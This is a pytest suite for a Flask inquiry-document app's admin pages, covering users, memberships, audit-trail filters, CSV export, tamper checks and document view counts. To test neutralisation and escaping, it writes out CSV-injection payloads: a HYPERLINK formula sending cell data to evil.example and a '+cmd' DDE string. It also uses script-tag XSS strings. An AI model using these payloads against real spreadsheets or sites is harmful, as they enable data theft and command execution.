"""Administration pages: users, memberships, the audit trail and "who has seen this"."""

from __future__ import annotations

import csv
import io
import json

import pytest
from flask import render_template
from sqlalchemy import func, select

from inquiry_docs.access import audit, audit_query
from inquiry_docs.access import signin as auth
from inquiry_docs.access.inquiries import create_inquiry
from inquiry_docs.db import db
from inquiry_docs.models import AuditEvent, Membership, User, UserSession
from tests import samples
from tests.conftest import PASSWORD, login, make_user, upload

MEMBER = "reader@example.org"


@pytest.fixture
def member(inquiry):
    return make_user(MEMBER, "reader", inquiry)


@pytest.fixture
def member_client(app, member):
    client = app.test_client()
    login(client, MEMBER)
    return client


@pytest.fixture
def other_inquiry(app):
    return create_inquiry("BAR", "Barrow inquiry")


@pytest.fixture
def document(admin_client, inquiry):
    response = upload(
        admin_client,
        inquiry,
        [(samples.make_pdf(["Page one.", "Page two."], title="A statement"), "a.pdf")],
    )
    assert response.status_code in (200, 302, 303)
    from inquiry_docs.models import Document

    return db.session.execute(select(Document)).scalar_one()


def events(action: str) -> list[AuditEvent]:
    db.session.expire_all()
    return list(
        db.session.execute(
            select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.id)
        ).scalars()
    )


def details(event: AuditEvent) -> dict:
    return json.loads(event.details)


def signed_out(client) -> bool:
    """The client's old session cookie no longer works: it is sent to sign in."""
    response = client.get("/documents/")
    return response.status_code == 302 and "/auth/login" in response.headers["Location"]


def sessions_of(user_id: int) -> int:
    return db.session.execute(
        select(func.count()).select_from(UserSession).where(UserSession.user_id == user_id)
    ).scalar_one()


def reload(model, id_):
    db.session.expire_all()
    return db.session.get(model, id_)


# ---- pages and access ----


def test_every_admin_page_renders_for_an_admin(admin_client, member, document):
    membership = member.memberships[0]
    for path in [
        "/admin/",
        "/admin/users",
        "/admin/users/new",
        f"/admin/users/{member.id}",
        f"/admin/users/{member.id}/memberships/new",
        f"/admin/users/{member.id}/memberships/{membership.id}",
        "/admin/audit",
        "/admin/audit?action=sign_in&date_from=2000-01-01&date_to=2999-12-31",
        f"/admin/audit?document={document.urn}",
        f"/admin/documents/{document.id}/seen",
        "/admin/audit.csv",
        "/admin/audit/verify",
    ]:
        response = admin_client.get(path)
        assert response.status_code == 200, path


def _admin_urls(app, member_id: int, membership_id: int, document_id: int):
    values = {"user_id": member_id, "membership_id": membership_id, "document_id": document_id}
    with app.test_request_context():
        from flask import url_for

        for rule in app.url_map.iter_rules():
            if rule.endpoint.startswith("admin."):
                args = {name: values[name] for name in rule.arguments}
                for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
                    yield method, url_for(rule.endpoint, **args)


def test_non_admins_get_403_on_every_admin_route(app, member_client, member, document):
    member_id, membership_id = member.id, member.memberships[0].id
    urls = list(_admin_urls(app, member_id, membership_id, document.id))
    assert len(urls) >= 14
    for method, url in urls:
        response = member_client.open(
            url,
            method=method,
            data={
                "role": "legal",
                "clearance": "OFFICIAL-SENSITIVE",
                "restricted_access": "yes",
                "administrator": "yes",
                "email": "new@example.org",
                "inquiry": "1",
            },
        )
        assert response.status_code == 403, (method, url)
    # and nothing changed
    user = reload(User, member_id)
    assert not user.is_admin and user.active
    assert user.memberships[0].role == "reader"
    assert db.session.execute(select(func.count()).select_from(User)).scalar_one() == 2
    assert not events("audit_exported")


def test_signed_out_visitors_are_sent_to_sign_in(app, member, document):
    client = app.test_client()
    for method, url in _admin_urls(app, member.id, member.memberships[0].id, document.id):
        response = client.open(url, method=method)
        assert response.status_code == 302, (method, url)
        assert "/auth/login" in response.headers["Location"]


def test_users_page_lists_users_and_escapes_them(admin_client, inquiry):
    make_user("<b>bold</b>@example.org", "legal", inquiry, clearance="OFFICIAL-SENSITIVE")
    page = admin_client.get("/admin/users").get_data(as_text=True)
    assert "&lt;b&gt;bold&lt;/b&gt;@example.org" in page
    assert "<b>bold</b>" not in page
    assert "OLD: Legal, OFFICIAL-SENSITIVE" in page
    assert "admin@example.org" in page


# ---- creating users ----


def test_create_member_shows_one_time_password_once_and_audits(admin_client, admin, inquiry):
    response = admin_client.post(
        "/admin/users/new",
        data={
            "email": "new@example.org",
            "role": "legal",
            "inquiry": str(inquiry.id),
            "clearance": "OFFICIAL-SENSITIVE",
            "restricted_access": "yes",
        },
    )
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "One-time password" in page
    user = db.session.execute(select(User).where(User.email == "new@example.org")).scalar_one()
    password = page.split('id="one-time-password">')[1].split("<")[0]
    assert auth.check_password("new@example.org", password) is not None
    assert user.must_change_password and not user.is_admin
    (membership,) = user.memberships
    assert (membership.role, membership.clearance, membership.restricted_access) == (
        "legal",
        "OFFICIAL-SENSITIVE",
        True,
    )
    # shown once: the user's page does not show it
    assert password not in admin_client.get(f"/admin/users/{user.id}").get_data(as_text=True)
    (event,) = [e for e in events("user_created") if e.object_id == str(user.id)]
    assert event.user_id == admin.id and event.inquiry_id == inquiry.id
    assert details(event)["before"] is None
    assert details(event)["after"]["memberships"] == [
        {
            "inquiry": "OLD",
            "role": "legal",
            "clearance": "OFFICIAL-SENSITIVE",
            "restricted_access": True,
        }
    ]
    assert password not in event.details


def test_create_admin_needs_no_inquiry(admin_client):
    response = admin_client.post(
        "/admin/users/new",
        data={
            "email": "boss@example.org",
            "role": "admin",
            "clearance": "OFFICIAL",
            "restricted_access": "no",
        },
    )
    assert response.status_code == 200
    user = db.session.execute(select(User).where(User.email == "boss@example.org")).scalar_one()
    assert user.is_admin and user.memberships == []


def test_create_user_errors(admin_client, member):
    response = admin_client.post(
        "/admin/users/new",
        data={
            "email": MEMBER.upper(),
            "role": "reader",
            "clearance": "SECRET",
            "restricted_access": "maybe",
        },
    )
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    for message in (
        "A user with this email address already exists",
        "Choose the inquiry this person works on",
        "Choose a clearance",
        "Choose whether they may see restricted documents",
    ):
        assert message in page
    assert admin_client.post("/admin/users/new", data={"email": "x"}).status_code == 400
    assert db.session.execute(select(func.count()).select_from(User)).scalar_one() == 2


# ---- account changes ----


def test_deactivate_ends_sessions_and_reactivate(admin_client, admin, member, member_client):
    assert not signed_out(member_client)
    response = admin_client.post(f"/admin/users/{member.id}/deactivate")
    assert response.status_code == 302
    assert signed_out(member_client)
    assert sessions_of(member.id) == 0
    assert not reload(User, member.id).active
    (event,) = events("user_deactivated")
    assert details(event)["before"]["active"] is True
    assert details(event)["after"]["active"] is False
    assert details(event)["sessions_ended"] == 1
    assert event.user_id == admin.id and event.object_id == str(member.id)
    # cannot sign in while deactivated
    response = member_client.post("/auth/login", data={"email": MEMBER, "password": PASSWORD})
    assert response.status_code != 302

    admin_client.post(f"/admin/users/{member.id}/reactivate")
    assert reload(User, member.id).active
    (event,) = events("user_reactivated")
    assert details(event)["before"]["active"] is False and details(event)["after"]["active"]
    login(member_client, MEMBER)
    assert not signed_out(member_client)


def test_admin_cannot_deactivate_or_demote_themselves(admin_client, admin):
    admin_client.post(f"/admin/users/{admin.id}/deactivate")
    admin_client.post(f"/admin/users/{admin.id}/administrator", data={"administrator": "no"})
    user = reload(User, admin.id)
    assert user.active and user.is_admin
    assert not events("user_deactivated") and not events("admin_removed")
    assert admin_client.get("/admin/").status_code == 200  # still signed in


def test_administrator_rights_are_granted_and_removed(
    app, admin_client, admin, member, member_client
):
    admin_client.post(f"/admin/users/{member.id}/administrator", data={"administrator": "yes"})
    assert reload(User, member.id).is_admin
    assert signed_out(member_client)
    (event,) = events("admin_granted")
    assert details(event)["before"]["is_admin"] is False
    assert details(event)["after"]["is_admin"] is True

    admin_client.post(f"/admin/users/{member.id}/administrator", data={"administrator": "no"})
    assert not reload(User, member.id).is_admin
    (event,) = events("admin_removed")
    assert details(event)["before"]["is_admin"] is True
    assert reload(User, member.id).memberships[0].role == "reader"  # membership kept
    response = admin_client.post(
        f"/admin/users/{member.id}/administrator", data={"administrator": "please"}
    )
    assert response.status_code == 400


def test_reset_password_shows_it_once_and_ends_sessions(admin_client, admin, member, member_client):
    response = admin_client.post(f"/admin/users/{member.id}/reset-password")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    password = page.split('id="one-time-password">')[1].split("<")[0]
    assert signed_out(member_client)
    assert auth.check_password(MEMBER, PASSWORD) is None
    assert auth.check_password(MEMBER, password) is not None
    assert reload(User, member.id).must_change_password
    (event,) = events("password_reset")
    assert event.user_id == admin.id and event.object_id == str(member.id)
    assert password not in event.details


def test_reset_two_factor_for_a_lost_phone(admin_client, admin, member, member_client):
    member.totp_secret, member.totp_enabled = "JBSWY3DPEHPK3PXP", True
    db.session.commit()
    response = admin_client.post(f"/admin/users/{member.id}/reset-two-factor")
    assert response.status_code == 302
    user = reload(User, member.id)
    assert not user.totp_enabled and user.totp_secret is None
    assert signed_out(member_client)
    (event,) = events("two_factor_reset")
    assert event.user_id == admin.id and event.object_id == str(member.id)


def test_admin_cannot_reset_their_own_password_or_two_factor(admin_client, admin):
    before = reload(User, admin.id).password_hash
    response = admin_client.post(f"/admin/users/{admin.id}/reset-password")
    assert response.status_code == 302
    response = admin_client.post(f"/admin/users/{admin.id}/reset-two-factor")
    assert response.status_code == 302
    user = reload(User, admin.id)
    assert user.password_hash == before and user.totp_enabled
    assert not events("password_reset") and not events("two_factor_reset")
    assert admin_client.get("/admin/").status_code == 200


# ---- memberships ----


def test_changing_a_membership_ends_sessions_and_records_before_and_after(
    admin_client, admin, member, member_client, inquiry
):
    membership = member.memberships[0]
    response = admin_client.post(
        f"/admin/users/{member.id}/memberships/{membership.id}",
        data={"role": "legal", "clearance": "OFFICIAL-SENSITIVE", "restricted_access": "yes"},
    )
    assert response.status_code == 302
    assert signed_out(member_client)
    membership = reload(Membership, membership.id)
    assert (membership.role, membership.clearance, membership.restricted_access) == (
        "legal",
        "OFFICIAL-SENSITIVE",
        True,
    )
    (event,) = events("membership_changed")
    assert details(event)["before"] == {
        "inquiry": "OLD",
        "role": "reader",
        "clearance": "OFFICIAL",
        "restricted_access": False,
    }
    assert details(event)["after"] == {
        "inquiry": "OLD",
        "role": "legal",
        "clearance": "OFFICIAL-SENSITIVE",
        "restricted_access": True,
    }
    assert event.user_id == admin.id and event.inquiry_id == inquiry.id


def test_saving_an_unchanged_membership_changes_nothing(admin_client, member, member_client):
    membership = member.memberships[0]
    admin_client.post(
        f"/admin/users/{member.id}/memberships/{membership.id}",
        data={"role": "reader", "clearance": "OFFICIAL", "restricted_access": "no"},
    )
    assert not events("membership_changed")
    assert not signed_out(member_client)


def test_membership_form_errors(admin_client, member):
    membership = member.memberships[0]
    response = admin_client.post(
        f"/admin/users/{member.id}/memberships/{membership.id}",
        data={"role": "admin", "clearance": "TOP SECRET"},
    )
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "Choose a role" in page and "Choose a clearance" in page
    assert reload(Membership, membership.id).role == "reader"


def test_add_and_remove_a_membership(admin_client, admin, member, member_client, other_inquiry):
    response = admin_client.post(
        f"/admin/users/{member.id}/memberships/new",
        data={
            "inquiry": str(other_inquiry.id),
            "role": "researcher",
            "clearance": "OFFICIAL",
            "restricted_access": "no",
        },
    )
    assert response.status_code == 302
    assert signed_out(member_client)
    added = db.session.execute(
        select(Membership).where(Membership.inquiry_id == other_inquiry.id)
    ).scalar_one()
    assert added.user_id == member.id and added.role == "researcher"
    (event,) = events("membership_added")
    assert details(event)["before"] is None
    assert details(event)["after"]["inquiry"] == "BAR"
    assert event.inquiry_id == other_inquiry.id

    # the same inquiry twice is refused
    response = admin_client.post(
        f"/admin/users/{member.id}/memberships/new",
        data={
            "inquiry": str(other_inquiry.id),
            "role": "reader",
            "clearance": "OFFICIAL",
            "restricted_access": "no",
        },
    )
    assert response.status_code == 400

    login(member_client, MEMBER)
    response = admin_client.post(f"/admin/users/{member.id}/memberships/{added.id}/remove")
    assert response.status_code == 302
    assert signed_out(member_client)
    assert reload(Membership, added.id) is None
    (event,) = events("membership_removed")
    assert details(event)["before"]["role"] == "researcher" and details(event)["after"] is None


# ---- mass assignment ----


def test_forms_change_only_their_own_fields(admin_client, admin, member, inquiry, other_inquiry):
    victim = make_user("victim@example.org", "reader", other_inquiry)
    membership = member.memberships[0]
    extra = {
        "is_admin": "1",
        "active": "0",
        "email": "changed@example.org",
        "must_change_password": "1",
        "password_hash": "x",
        "totp_enabled": "0",
        "inquiry": str(other_inquiry.id),
        "administrator": "yes",
    }
    response = admin_client.post(
        f"/admin/users/{member.id}/memberships/{membership.id}",
        data={"role": "legal", "clearance": "OFFICIAL", "restricted_access": "no", **extra},
    )
    assert response.status_code == 302
    user = reload(User, member.id)
    assert (user.email, user.is_admin, user.active, user.must_change_password) == (
        MEMBER,
        False,
        True,
        False,
    )
    membership = reload(Membership, membership.id)
    assert membership.inquiry_id == inquiry.id and membership.role == "legal"

    # creating a member cannot make an administrator
    admin_client.post(
        "/admin/users/new",
        data={
            **extra,
            "email": "new@example.org",
            "role": "reader",
            "inquiry": str(inquiry.id),
            "clearance": "OFFICIAL",
            "restricted_access": "no",
        },
    )
    new = db.session.execute(select(User).where(User.email == "new@example.org")).scalar_one()
    assert (
        not new.is_admin and new.active and [m.inquiry_id for m in new.memberships] == [inquiry.id]
    )

    # ids in the body that disagree with the path are refused
    for path, body in [
        (
            f"/admin/users/{member.id}/memberships/{membership.id}",
            {
                "role": "reader",
                "clearance": "OFFICIAL",
                "restricted_access": "no",
                "user_id": str(victim.id),
            },
        ),
        (
            f"/admin/users/{member.id}/memberships/{membership.id}",
            {
                "role": "reader",
                "clearance": "OFFICIAL",
                "restricted_access": "no",
                "membership_id": str(victim.memberships[0].id),
            },
        ),
        (f"/admin/users/{member.id}/deactivate", {"user_id": str(victim.id)}),
        (f"/admin/users/{member.id}/reset-password", {"id": str(victim.id)}),
        (
            f"/admin/users/{member.id}/administrator",
            {"administrator": "yes", "user_id": str(victim.id)},
        ),
        (
            f"/admin/users/{member.id}/memberships/{membership.id}/remove",
            {"inquiry_id": str(other_inquiry.id)},
        ),
        (
            "/admin/users/new",
            {"email": "x@example.org", "role": "admin", "user_id": str(victim.id)},
        ),
    ]:
        assert admin_client.post(path, data=body).status_code == 400, path

    # another user's membership under this user's path is not found
    response = admin_client.post(
        f"/admin/users/{member.id}/memberships/{victim.memberships[0].id}",
        data={"role": "legal", "clearance": "OFFICIAL-SENSITIVE", "restricted_access": "yes"},
    )
    assert response.status_code == 404
    response = admin_client.post(
        f"/admin/users/{member.id}/memberships/{victim.memberships[0].id}/remove"
    )
    assert response.status_code == 404

    victim = reload(User, victim.id)
    assert victim.active and not victim.is_admin and not victim.must_change_password
    assert [(m.role, m.clearance, m.restricted_access) for m in victim.memberships] == [
        ("reader", "OFFICIAL", False)
    ]
    assert reload(Membership, membership.id).role == "legal"
    assert not events("user_deactivated") and not events("password_reset")
    assert not events("admin_granted") and not events("membership_removed")


# ---- audit trail pages ----


def test_audit_page_filters_and_paginates(admin_client, admin, member, document):
    for i in range(60):
        audit.record("test_event", user=admin, object_type="thing", object_id=i)
    db.session.commit()
    page = admin_client.get("/admin/audit").get_data(as_text=True)
    assert "Events 1 to 50 of" in page
    assert 'rel="next"' in page
    newest = db.session.execute(select(func.max(AuditEvent.id))).scalar()
    assert page.index(f">{newest}<") < page.index(f">{newest - 1}<")  # newest first
    second = admin_client.get("/admin/audit?page=2").get_data(as_text=True)
    assert "Events 51 to" in second

    page = admin_client.get("/admin/audit?action=test_event").get_data(as_text=True)
    assert "60 events" in page
    page = admin_client.get(f"/admin/audit?user={MEMBER.upper()}").get_data(as_text=True)
    assert "0 events" in page  # the member has not done anything
    page = admin_client.get(f"/admin/audit?document={document.urn.lower()}")
    text = page.get_data(as_text=True)
    assert 'cell">document_received<' in text
    assert 'cell">test_event<' not in text and 'cell">sign_in<' not in text
    page = admin_client.get(f"/admin/audit?document={document.id}&action=document_received")
    assert "1 event<" in page.get_data(as_text=True)
    assert "0 events" in admin_client.get("/admin/audit?date_to=2000-01-01").get_data(as_text=True)

    response = admin_client.get("/admin/audit?date_from=27/03/2024&document=x&action=nope")
    assert response.status_code == 400
    text = response.get_data(as_text=True)
    assert "Enter the date from as year-month-day" in text
    assert "Enter a reference number like OLD000123" in text
    assert "Choose an action from the list" in text
    response = admin_client.get("/admin/audit?date_from=2024-03-28&date_to=2024-03-27")
    assert response.status_code == 400
    assert admin_client.get("/admin/audit.csv?date_from=nope").status_code == 400


def test_audit_details_are_escaped(admin_client, admin):
    audit.record("search", user=admin, object_type="search", query="<script>alert(1)</script>")
    db.session.commit()
    page = admin_client.get("/admin/audit").get_data(as_text=True)
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def _csv(response) -> list[dict[str, str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_csv_export_neutralises_formulas_and_is_audited(admin_client, admin, inquiry):
    evil = '=HYPERLINK("http://evil.example/?x="&A1)@example.org'
    make_user(evil, "reader", inquiry)
    login(admin_client.application.test_client(), evil)  # the evil user signs in
    audit.record("search", user=admin, object_type="search", query='=HYPERLINK("x")')
    audit.record("test_event", actor="+cmd|' /C calc'!A0", object_type="-2+3", object_id="@SUM(1)")
    audit.record("test_event", actor="\tindented", object_type="\rreturn")
    db.session.commit()
    response = admin_client.get("/admin/audit.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = _csv(response)
    assert list(rows[0]) == [
        "id",
        "at",
        "actor",
        "ip",
        "action",
        "object_type",
        "object_id",
        "inquiry",
        "details",
        "hash",
    ]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    sign_in = next(r for r in rows if r["action"] == "sign_in" and evil in r["actor"])
    assert sign_in["actor"] == "'" + evil
    odd = next(r for r in rows if r["actor"].startswith("'+cmd"))
    assert odd["object_type"] == "'-2+3" and odd["object_id"] == "'@SUM(1)"
    assert any(r["actor"] == "'\tindented" and r["object_type"] == "'\rreturn" for r in rows)
    created = next(
        r
        for r in rows
        if r["action"] == "user_created" and json.loads(r["details"])["email"] == evil
    )  # JSON cells stay whole
    assert created["inquiry"] == "OLD"

    (export,) = events("audit_exported")
    assert export.user_id == admin.id and export.actor == admin.email
    assert details(export)["rows"] == len(rows)
    assert details(export)["filters"] == {}


def test_csv_export_uses_the_filters_and_records_them(admin_client, admin):
    for _ in range(3):
        audit.record("test_event", user=admin, object_type="thing")
    db.session.commit()
    response = admin_client.get("/admin/audit.csv?action=test_event&date_from=2000-01-01")
    rows = _csv(response)
    assert len(rows) == 3 and {r["action"] for r in rows} == {"test_event"}
    assert [int(r["id"]) for r in rows] == sorted((int(r["id"]) for r in rows), reverse=True)
    (export,) = events("audit_exported")
    assert details(export)["filters"] == {"action": "test_event", "date_from": "2000-01-01"}
    assert details(export)["rows"] == 3


def test_verify_page_reports_intact_then_broken(app, admin_client):
    page = admin_client.get("/admin/audit/verify").get_data(as_text=True)
    assert "Audit trail intact" in page
    target = db.session.execute(select(func.min(AuditEvent.id))).scalar()
    db.session.execute(
        AuditEvent.__table__.update().where(AuditEvent.id == target).values(actor="someone else")
    )
    db.session.commit()
    page = admin_client.get("/admin/audit/verify").get_data(as_text=True)
    assert "Audit trail broken" in page
    assert f"Audit trail broken at event #{target}: this event was altered" in page


# ---- who has seen this ----


def test_seen_by_counts_views_and_downloads_per_person(app, admin_client, inquiry, document):
    make_user("one@example.org", "reader", inquiry)
    make_user("two@example.org", "reader", inquiry)
    one, two = app.test_client(), app.test_client()
    login(one, "one@example.org")
    login(two, "two@example.org")
    assert one.get(f"/documents/{document.id}").status_code == 200
    assert one.get(f"/documents/{document.id}").status_code == 200
    assert one.get(f"/documents/{document.id}/original").status_code == 200
    assert two.get(f"/documents/{document.id}").status_code == 200

    rows = {r.email: r for r in audit_query.seen_by(document.id)}
    assert set(rows) == {"one@example.org", "two@example.org"}
    assert (rows["one@example.org"].views, rows["one@example.org"].downloaded) == (2, True)
    assert (rows["two@example.org"].views, rows["two@example.org"].downloaded) == (1, False)
    assert rows["one@example.org"].first_seen <= rows["one@example.org"].last_seen
    assert audit_query.seen_by(document.id + 1) == []

    page = admin_client.get(f"/admin/documents/{document.id}/seen").get_data(as_text=True)
    assert "one@example.org" in page and "two@example.org" in page
    assert "Downloaded the original" in page and "127.0.0.1" in page
    assert "4 views and downloads" in page
    assert admin_client.get("/admin/documents/999/seen").status_code == 404


def test_seen_by_panel_renders_and_escapes(app, admin, inquiry, document):
    evil = make_user("<i>x</i>@example.org", "reader", inquiry)
    audit.record("document_viewed", user=evil, object_type="document", object_id=document.id)
    db.session.commit()
    with app.test_request_context():
        html = render_template(
            "documents/_seen_by.html", document=document, seen_by=audit_query.seen_by(document.id)
        )
    assert "Who has seen this" in html
    assert "&lt;i&gt;x&lt;/i&gt;@example.org" in html and "<i>x</i>" not in html
    assert f"/admin/documents/{document.id}/seen" in html
    with app.test_request_context():
        empty = render_template("documents/_seen_by.html", document=document, seen_by=[])
    assert "No one has opened or downloaded this document yet" in empty


def test_neutralise():
    assert audit_query.neutralise("=1+1") == "'=1+1"
    for start in ("+", "-", "@", "\t", "\r"):
        assert audit_query.neutralise(start + "x") == "'" + start + "x"
    assert audit_query.neutralise("plain") == "plain"
    assert audit_query.neutralise(None) == ""
    assert audit_query.neutralise(-5) == "'-5"
